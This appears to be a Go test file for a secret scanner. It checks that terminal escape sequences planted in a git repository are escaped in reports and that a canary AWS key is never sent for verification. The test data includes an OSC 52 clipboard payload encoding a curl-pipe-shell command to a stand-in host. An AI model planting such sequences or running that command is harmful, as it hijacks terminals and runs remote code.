package cli

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"unicode/utf8"
)

// Sequences a hostile repository puts where achilles prints them: OSC 52
// (write the clipboard), ESC[2J (clear the screen), cursor up and column 1
// (overwrite the findings printed before) and an 8-bit CSI.
const (
	osc52       = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
	clearScreen = "\x1b[2J"
	cursorMoves = "\x1b[5A\x1b[1G"
	csi8        = "\u009b2K"
)

// rawControl returns where b holds an ESC, a C1 control (as UTF-8 or as a
// raw byte), DEL or another C0 control than a line break, or -1.
func rawControl(b []byte) int {
	for i := 0; i < len(b); {
		r, size := utf8.DecodeRune(b[i:])
		if r == utf8.RuneError && size == 1 || r == 0x1b || r == 0x7f || r >= 0x80 && r <= 0x9f || r < 0x20 && r != '\n' && r != '\r' {
			return i
		}
		i += size
	}
	return -1
}

// TestHostileRepositoryCannotDriveTheTerminal: a real repository whose file
// name, author name and commit message hold OSC 52, ESC[2J, cursor moves
// and an 8-bit CSI, scanned by the built binary: the finding is reported
// (exit 1) and neither the text report nor the CSV holds a raw ESC or C1
// byte from the content; the path and author are there, escaped.
func TestHostileRepositoryCannotDriveTheTerminal(t *testing.T) {
	r := newGitRepo(t)
	name := "conf" + osc52 + clearScreen + cursorMoves + csi8 + ".env"
	r.write(name, "token = "+tokA+"\n")
	r.run("git", "add", "-A")
	msg := filepath.Join(t.TempDir(), "msg")
	os.WriteFile(msg, []byte("deploy "+clearScreen+cursorMoves+"nothing to see\n\n"+osc52+"\n"), 0o644)
	commit := exec.Command("git", "commit", "-q", "-F", msg)
	commit.Dir = r.dir
	commit.Env = append(r.env(), "GIT_AUTHOR_NAME=Eve "+osc52+cursorMoves+csi8, "GIT_AUTHOR_EMAIL=eve@example.com")
	if out, err := commit.CombinedOutput(); err != nil {
		t.Fatalf("git commit: %v\n%s", err, out)
	}
	if log := r.run("git", "log", "-1", "--format=%an%n%B"); !strings.Contains(log, "\x1b]52") || !strings.Contains(log, "\x1b[2J") {
		t.Fatalf("git did not keep the sequences in the commit: %q", log)
	}

	for _, format := range []string{"text", "csv"} {
		res := r.achilles(r.dir, "", nil, "git", r.dir, "-c", r.config(), "-f", format, "--no-progress", "--no-redact")
		if res.code != ExitFindings {
			t.Fatalf("%s: exit %d, want %d\nstderr: %q", format, res.code, ExitFindings, res.stderr)
		}
		out := []byte(res.stdout)
		if i := rawControl(out); i >= 0 {
			t.Errorf("%s: raw control byte %#x at %d: %q", format, out[i], i, out[max(0, i-30):min(len(out), i+30)])
		}
		escapedName := `conf\x1b]52;c;Y3VybCBldmlsLnNofHNo\a\x1b[2J\x1b[5A\x1b[1G\u009b2K.env`
		switch format {
		case "text":
			for _, want := range []string{escapedName + ":1:9", `Eve \x1b]52;c;`, `deploy \x1b[2J\x1b[5A`, tokA} {
				if !bytes.Contains(out, []byte(want)) {
					t.Errorf("text report lacks %q:\n%s", want, out)
				}
			}
		case "csv":
			rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("csv: %v\n%s", err, out)
			}
			if rows[1][3] != escapedName || !strings.HasPrefix(rows[1][11], `Eve \x1b]52`) || rows[1][6] != tokA {
				t.Errorf("csv row %q", rows[1])
			}
		}
	}
}

// TestCanaryKeyIsNotSentThroughTheBinary: `achilles stdin --verify` on an
// AWS key pair whose key id belongs to the Thinkst Canarytokens account
// reports it canary, says why, and the STS it was pointed at (a loopback
// TLS fake named by --config) receives nothing; an ordinary key pair in the
// same run is still sent there.
func TestCanaryKeyIsNotSentThroughTheBinary(t *testing.T) {
	var hits atomic.Int64
	var canaryHits atomic.Int64
	const canaryKeyID, otherKeyID = "AKIAQYLPMN5HHHFPZAM2", "AKIAZ3MSJV4WQPTHKR7N"
	sts := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if strings.Contains(r.Header.Get("Authorization"), "Credential="+canaryKeyID+"/") {
			canaryHits.Add(1)
		}
		w.WriteHeader(http.StatusForbidden)
		w.Write([]byte(`<ErrorResponse><Error><Type>Sender</Type><Code>InvalidClientTokenId</Code></Error></ErrorResponse>`))
	}))
	defer sts.Close()
	cfg := filepath.Join(t.TempDir(), "achilles.toml")
	os.WriteFile(cfg, []byte(fmt.Sprintf("[extend]\nuseDefault = true\n\n[verify.endpoints]\naws = %q\n", sts.URL)), 0o644)
	input := "[canary]\naws_access_key_id = " + canaryKeyID + "\naws_secret_access_key = Q2x9LmP4vR7sT1uW3yZ5aB8cD6eF0g1h2i3j4k5l\n\n\n\n\n\n\n\n\n\n" +
		"[other]\naws_access_key_id = " + otherKeyID + "\naws_secret_access_key = Zr7Tq2Wv9Xy4Bn6Mk1Lp3Hs8Dg5Fj0Ac2Ee4Ii6O\n"

	for _, format := range []string{"text", "json"} {
		hits.Store(0)
		canaryHits.Store(0)
		dir := t.TempDir()
		res := execAchilles(t, dir, append(os.Environ(), "ACHILLES_CONFIG=", "HOME="+dir), input, "stdin", "-c", cfg, "--verify", "-f", format, "--no-progress")
		code, stderr := res.code, res.stderr
		out := res.stdout
		if code != ExitFindings {
			t.Fatalf("%s: exit %d\nstdout: %s\nstderr: %s", format, code, out, stderr)
		}
		if n := canaryHits.Load(); n != 0 {
			t.Fatalf("%s: the fake STS received %d requests signed with the canary key", format, n)
		}
		if n := hits.Load(); n != 1 {
			t.Errorf("%s: %d requests to the fake STS, want 1 (the ordinary key)", format, n)
		}
		switch format {
		case "text":
			// The ordinary pair's rejection is unknown, not dead: the input
			// holds two key ids, and only the nearest was tried.
			for _, want := range []string{"CANARY aws-secret-access-key", "verified  canary: a planted decoy, never sent", "AWS account 052310077262", "verified  unknown  (rejected with the aws-access-key-id found nearest"} {
				if !strings.Contains(out, want) {
					t.Errorf("text report lacks %q:\n%s", want, out)
				}
			}
		case "json":
			if c := strings.Count(out, `"status": "canary"`); c != 2 { // the key id and the secret key
				t.Errorf("%d canary statuses, want 2:\n%s", c, out)
			}
		}
	}
}
